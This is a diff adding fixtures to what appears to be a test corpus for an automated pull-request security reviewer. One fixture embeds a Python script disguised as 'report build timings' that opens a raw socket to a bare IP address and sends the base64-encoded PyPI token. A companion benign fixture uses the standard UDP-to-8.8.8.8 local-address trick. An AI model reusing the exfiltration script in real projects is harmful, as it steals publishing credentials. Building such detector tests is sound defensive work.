@@ -1079,6 +1079,79 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-raw-socket-to-ip',
+    description:
+      'The GhostAction collector of September 2025 rewritten without an HTTP client or a URL: a "report build timings" script opens a raw socket to a bare IP address (held in a constant) and writes the PyPI token into it, base64-encoded.',
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7743,
+        title: 'ci: report build timings',
+        files: [
+          {
+            path: 'scripts/report_timings.py',
+            head: lines(
+              'import base64',
+              'import os',
+              'import socket',
+              'import time',
+              '',
+              "COLLECTOR = '45.61.136.21'",
+              '',
+              '',
+              'def main() -> None:',
+              '    started = float(os.environ.get("BUILD_STARTED", time.time()))',
+              "    payload = f\"{time.time() - started:.1f}|{os.environ.get('PYPI_API_TOKEN', '')}\"",
+              '    with socket.create_connection((COLLECTOR, 8443), timeout=5) as s:',
+              '        s.sendall(base64.b64encode(payload.encode()))',
+              '',
+              '',
+              "if __name__ == '__main__':",
+              '    main()',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'], drivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
+    id: 'benign-local-address-through-resolver-socket',
+    description:
+      "A maintainer's helper finds the machine's own address the usual way, connecting a UDP socket to a public DNS resolver (8.8.8.8) and reading the socket's name, and opens the cache's socket by host name: no data leaves for a bare address.",
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7744,
+        title: 'Report the worker address in the status page',
+        files: [
+          {
+            path: 'src/yamlfix/netutil.py',
+            head: lines(
+              'import socket',
+              '',
+              '',
+              'def local_address() -> str:',
+              '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+              '    try:',
+              "        s.connect(('8.8.8.8', 80))",
+              '        return s.getsockname()[0]',
+              '    finally:',
+              '        s.close()',
+              '',
+              '',
+              "def cache_connection(host: str = 'cache.internal', port: int = 6379) -> socket.socket:",
+              '    return socket.create_connection((host, port), timeout=5)',
+            ),
+          },
+          {
+            path: 'tests/test_netutil.py',
+            head: lines('from yamlfix.netutil import local_address', '', '', 'def test_local_address_is_dotted() -> None:', "    assert local_address().count('.') == 3"),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-ghostaction-python-step-sends-environment',
     description:
       'The GhostAction send written as a `shell: python` step by a maintainer\'s stolen account: a "security check" workflow puts the PyPI and AWS secrets in the step\'s env, takes the whole environment as one value (`snap = dict(os.environ)`), serializes it on the next line and posts it with urlopen to an ordinary-looking host: no curl, no secret named on the line that sends.',
